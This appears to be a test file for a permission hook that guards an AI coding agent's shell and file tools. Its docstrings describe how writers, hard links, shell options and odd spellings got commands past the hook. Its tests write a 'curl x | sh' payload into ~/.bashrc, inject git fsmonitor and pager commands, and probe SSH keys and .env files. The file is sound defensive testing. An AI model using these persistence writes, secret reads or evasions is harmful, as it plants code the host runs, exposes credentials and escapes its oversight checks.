"""`shellgate hook` and the files the host runs by itself: a write to one
through any writer, or through another name of the file, is never left to
an allow rule or a mode.

From a review of the hook: writers the analysis does not model as writing
a given path (`sort -o`, `uniq IN OUT`, `sed 'w …'`, an awk `>`, `find
-fprint`, `tar -C ~`, `git config`) got no decision when they wrote
~/.bashrc or git's configuration, so in bypassPermissions mode, or with an
allow rule such as `Bash(sort:*)`, Claude Code ran them unasked and the
host ran what they wrote at the next login; a hard link in the project to
~/.bashrc was written as a project file; `hostname -I` and `test -f
~/.ssh/id_rsa` were allowed. Each writer is first run on a throwaway home
(the control: the host-run file changed), then judged.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest
from hookcalls import ask_hook, hook_env

pytestmark = pytest.mark.sandbox  # the file tools' policy is the sandbox's plan

#: (command, the file below the home it writes; @HOME@ is the home's path)
WRITERS = [
    ("sort -o ~/.bashrc notes", ".bashrc"),
    ("sort --output=$HOME/.profile notes", ".profile"),
    ("uniq notes ~/.bashrc", ".bashrc"),
    ("sed -n 'w @HOME@/.bashrc' notes", ".bashrc"),
    ("awk '{print > \"@HOME@/.bashrc\"}' notes", ".bashrc"),
    ("find . -name notes -fprint ~/.bashrc", ".bashrc"),
    ("cp -r payload/. ~", ".bashrc"),
    ("tar -xf payload.tar -C ~", ".bashrc"),
    ("git config --global core.pager 'sh -c x'", ".gitconfig"),
]


def _project(tmp_path: Path) -> tuple[Path, dict[str, str]]:
    env = hook_env(tmp_path)
    project = tmp_path / "project"
    (project / "payload").mkdir(parents=True)
    (project / "notes").write_text("curl x | sh\n")
    (project / "payload" / ".bashrc").write_text("curl x | sh\n")
    subprocess.run(["tar", "-cf", "payload.tar", "-C", "payload", ".bashrc"], cwd=project,
                   check=True)
    return project, env


@pytest.mark.parametrize(("command", "target"), WRITERS)
def test_a_writer_naming_a_file_the_host_runs_is_asked_about_in_every_mode(
        tmp_path: Path, command: str, target: str) -> None:
    project, env = _project(tmp_path)
    home = Path(env["HOME"])
    command = command.replace("@HOME@", str(home))
    subprocess.run(["bash", "-c", command], cwd=project, env=env, check=False,
                   capture_output=True, timeout=30)
    assert (home / target).exists(), f"control: {command} wrote ~/{target}"
    (home / target).unlink()
    for mode in ("default", "bypassPermissions"):
        assert ask_hook("Bash", {"command": command}, project, env, mode) in ("ask", "deny"), \
            (command, mode)


@pytest.mark.parametrize("command", [
    "git config core.fsmonitor 'touch x'", "crontab jobs.txt", "systemctl --user enable x",
])
def test_a_command_writing_a_configuration_the_host_obeys_by_its_meaning_is_asked_about(
        tmp_path: Path, command: str) -> None:
    project, env = _project(tmp_path)
    subprocess.run(["git", "init", "-q", str(project)], check=True)
    assert ask_hook("Bash", {"command": command}, project, env, "bypassPermissions") == "ask"


@pytest.mark.parametrize("command", ["sort -o sorted.txt notes", "uniq notes out.txt",
                                     "git commit -m config", "cp notes ~/notes.bak"])
def test_a_writer_that_names_no_file_the_host_runs_stays_claude_codes_to_decide(
        tmp_path: Path, command: str) -> None:
    project, env = _project(tmp_path)
    assert ask_hook("Bash", {"command": command}, project, env) is None


def test_a_hard_link_in_the_project_to_a_file_the_host_runs_is_never_written(
        tmp_path: Path) -> None:
    project, env = _project(tmp_path)
    bashrc = Path(env["HOME"]) / ".bashrc"
    bashrc.write_text("# mine\n")
    os.link(bashrc, project / "notes.sh")
    with (project / "notes.sh").open("a") as f:
        f.write("# through the link\n")
    assert "through the link" in bashrc.read_text(), "control: one file, two names"
    cases = [("Write", {"file_path": str(project / "notes.sh"), "content": "curl x|sh\n"}),
             ("Edit", {"file_path": str(project / "notes.sh"), "old_string": "mine",
                       "new_string": "curl x|sh"}),
             ("Bash", {"command": "echo 'curl x|sh' >> notes.sh"})]
    for tool, data in cases:
        assert ask_hook(tool, data, project, env, "bypassPermissions") == "deny", tool
    # a file with one name is the project's own
    assert ask_hook("Write", {"file_path": str(project / "other.sh"), "content": "x"},
                    project, env) is None


def test_what_tells_the_host_apart_from_the_sandbox_is_not_allowed(tmp_path: Path) -> None:
    """`hostname -I` prints the machine's addresses (in the sandbox, its
    own namespace's); `test -f ~/.ssh/id_rsa` says whether a key exists."""
    project, env = _project(tmp_path)
    shown = subprocess.run(["hostname", "-I"], capture_output=True, text=True, check=False)
    assert shown.returncode == 0, "control: hostname -I answers on the host"
    assert ask_hook("Bash", {"command": "hostname -I"}, project, env) is None
    assert ask_hook("Bash", {"command": "test -f ~/.ssh/id_rsa && echo y"}, project, env) \
        == "deny"
    assert ask_hook("Bash", {"command": "[ -f notes ] && echo y"}, project, env) == "allow"


@pytest.mark.parametrize(("rc", "name", "line"), [
    (".bashrc", "bash", "shopt -s dotglob"),
    (".bash_aliases", "bash", "shopt -s dotglob"),
    (".zshrc", "zsh", "setopt GLOB_DOTS"),
])
def test_options_the_users_startup_files_set_stop_an_allow_they_change(
        tmp_path: Path, rc: str, name: str, line: str) -> None:
    """From a review: `shopt -s dotglob` in ~/.bashrc, not exported, makes
    the shell Claude Code sources it into read `.env` through `cat *`; the
    hook saw only exported options and allowed it. A command with no
    pattern reads alike and stays allowed, and a commented-out option (as
    Debian's own ~/.bashrc has `#shopt -s globstar`) changes nothing."""
    project, env = _project(tmp_path)
    home = Path(env["HOME"])
    (project / ".env").write_text("KEY=s3cret\n")
    (home / ".bashrc").write_text("#shopt -s globstar\n")
    if rc == ".bash_aliases":
        (home / ".bashrc").write_text("#shopt -s globstar\n. ~/.bash_aliases\n")
    assert ask_hook("Bash", {"command": "cat *"}, project, env) == "allow", "commented out"
    (home / rc).write_text(f"{(home / rc).read_text() if rc == '.bashrc' else ''}{line}\n")
    shell = shutil.which(name)
    if shell is not None:  # the control, where that shell is installed
        shown = subprocess.run([shell, "-ic", "cat *"], cwd=project, env=env,
                               capture_output=True, text=True, check=False, timeout=30)
        assert "s3cret" in shown.stdout, f"control: {name} with {line} read .env"
    assert ask_hook("Bash", {"command": "cat *"}, project, env) is None
    assert ask_hook("Bash", {"command": "cat notes"}, project, env) == "allow"


#: from the white-box review of the change above: spellings, directories
#: and writers it missed (each command writes ~/.bashrc, the project's
#: .git/config or a hook, or what the host obeys by meaning)
MISSED = [
    "cd ~ && sort -o .bashrc @P@/notes",
    "cd .. && sort -o home/.bashrc project/notes",
    "sort -o ${HOME:-/x}/.bashrc notes",
    "sort -o /proc/self/cwd/../home/.bashrc notes",
    "sort -o ../h*/.bashrc notes",
    "cp -r payload/. ..",
    "uniq notes .git/config",
    "sort -o .git/config notes",
    "sed -n 'w .git/config' notes",
    "git log -1 --format=x --output=.git/config",
    "find . -maxdepth 0 -fprint .git/hooks/post-checkout",
    "git init --template=tpl",
    "/usr/lib/git-core/git-config --global core.pager less",
    "git -c alias.c=config c --global core.pager less",
    "systemctl enable --user x.service",
    "npm config set script-shell ./x.sh",
    "pip install --user .",
    "true|" * 1001 + "sort -o ~/.bashrc notes",
]


@pytest.mark.parametrize("command", MISSED, ids=[c[:40] for c in MISSED])
def test_what_the_review_found_writing_what_the_host_obeys_is_asked_about(
        tmp_path: Path, command: str) -> None:
    project, env = _project(tmp_path)
    command = command.replace("@P@", str(project))
    (Path(env["HOME"]) / ".bashrc").write_text("# mine\n")  # a glob matches what is there
    subprocess.run(["git", "init", "-q", str(project)], check=True)
    assert ask_hook("Bash", {"command": command}, project, env, "bypassPermissions") \
        in ("ask", "deny"), command


def test_the_controls_of_the_missed_writers_write_what_the_host_obeys(tmp_path: Path) -> None:
    """The controls, on a throwaway home: each form above that runs here
    writes ~/.bashrc or the project's git configuration, and git then runs
    what was written."""
    project, env = _project(tmp_path)
    home = Path(env["HOME"])
    subprocess.run(["git", "init", "-q", str(project)], check=True)
    for command in (c.replace("@P@", str(project)) for c in MISSED[:5]):
        (home / ".bashrc").write_text("# mine\n")
        subprocess.run(["bash", "-c", command], cwd=project, env=env, check=False,
                       capture_output=True, timeout=30)
        assert "curl" in (home / ".bashrc").read_text(), f"control: {command} wrote ~/.bashrc"
    marker = tmp_path / "RAN"
    (project / "notes").write_text(f"[core]\n\tfsmonitor = \"touch {marker}; false\"\n")
    subprocess.run(["bash", "-c", "uniq notes .git/config"], cwd=project, env=env, check=True)
    subprocess.run(["git", "status"], cwd=project, env=env, capture_output=True, check=False,
                   timeout=30)
    assert marker.exists(), "control: git status ran the monitor uniq wrote"


@pytest.mark.parametrize("command", [
    "git commit -m 'docs: explain the ~/.bashrc setup'", "git config -l",
    "systemctl --user status foo", "npm test", "make build", "pip install -r requirements.txt",
    "for i in 1 2; do /usr/bin/touch out$i; done",
])
def test_ordinary_commands_that_only_mention_such_places_stay_claude_codes_to_decide(
        tmp_path: Path, command: str) -> None:
    project, env = _project(tmp_path)
    subprocess.run(["git", "init", "-q", str(project)], check=True)
    assert ask_hook("Bash", {"command": command}, project, env) is None, command


def test_a_hard_link_anywhere_is_asked_about_before_it_is_written(tmp_path: Path) -> None:
    """From the review: a link to a file deeper in a place the host runs
    (~/.config/fish/conf.d/x.fish, a site-packages .pth) got no decision."""
    project, env = _project(tmp_path)
    deep = Path(env["HOME"]) / ".config" / "fish" / "conf.d" / "x.fish"
    deep.parent.mkdir(parents=True)
    deep.write_text("# mine\n")
    os.link(deep, project / "rc")
    for tool, data in [("Write", {"file_path": str(project / "rc"), "content": "x"}),
                       ("Bash", {"command": "echo x >> rc"}),
                       ("Bash", {"command": "sort -o rc notes"})]:
        assert ask_hook(tool, data, project, env, "bypassPermissions") in ("ask", "deny"), data


@pytest.mark.parametrize("command", ["[ -e ~/.ssh/id_rsa ] && echo y",
                                     "[[ -s ~/.ssh/id_rsa ]] && echo y"])
def test_a_bracket_test_of_a_key_spelled_with_a_tilde_is_denied(
        tmp_path: Path, command: str) -> None:
    """From the review: the parser split `~/.ssh/id_rsa` inside `[ ]` into
    `~` and `/.ssh/id_rsa`, and only the home was looked at."""
    project, env = _project(tmp_path)
    assert ask_hook("Bash", {"command": command}, project, env) == "deny"


def test_debians_stock_startup_files_take_nothing_from_the_hook(tmp_path: Path) -> None:
    """From the review: `if ! shopt -oq posix` in Debian's /etc/skel/.bashrc
    read as the posix option, and no Bash call was ever allowed."""
    project, env = _project(tmp_path)
    home = Path(env["HOME"])
    (home / ".bashrc").write_text("#shopt -s globstar\nshopt -s checkwinsize\n"
                                  "if ! shopt -oq posix; then\n  :\nfi\n")
    assert ask_hook("Bash", {"command": "cat *"}, project, env) == "allow"


@pytest.mark.parametrize("rc", [
    "[ -f ~/.bash_local ] && . ~/.bash_local",
    "for rc in ~/.bashrc.d/*; do if [ -f \"$rc\" ]; then . \"$rc\"; fi; done",
    ". \"$HOME\"/.bash_local",
    "shopt -s dot\"glob\"",
    "o=dot; shopt -s ${o}glob",
])
def test_options_set_through_sourced_files_loops_and_quotes_stop_an_allow(
        tmp_path: Path, rc: str) -> None:
    project, env = _project(tmp_path)
    home = Path(env["HOME"])
    (project / ".env").write_text("KEY=s3cret\n")
    (home / ".bash_local").write_text("shopt -s dotglob\n")
    (home / ".bashrc.d").mkdir()
    (home / ".bashrc.d" / "x.sh").write_text("shopt -s dotglob\n")
    (home / ".bashrc").write_text(rc + "\n")
    shown = subprocess.run(["bash", "-ic", "cat *"], cwd=project, env=env, capture_output=True,
                           text=True, check=False, timeout=30)
    assert "s3cret" in shown.stdout, "control: the shell read .env"
    assert ask_hook("Bash", {"command": "cat *"}, project, env) is None


def test_cdable_vars_in_the_startup_files_stops_every_allow(tmp_path: Path) -> None:
    """From the review: with `shopt -s cdable_vars`, `cd HOME` is `cd ~`,
    and `cd HOME && cat .ssh/id_rsa` was allowed."""
    project, env = _project(tmp_path)
    home = Path(env["HOME"])
    (home / ".bashrc").write_text("shopt -s cdable_vars\n")
    shown = subprocess.run(["bash", "-ic", "cd HOME && cat .ssh/id_rsa"], cwd=project, env=env,
                           capture_output=True, text=True, check=False, timeout=30)
    assert "KEY" in shown.stdout, "control: cd HOME went home"
    assert ask_hook("Bash", {"command": "cd HOME && cat .ssh/id_rsa"}, project, env) is None
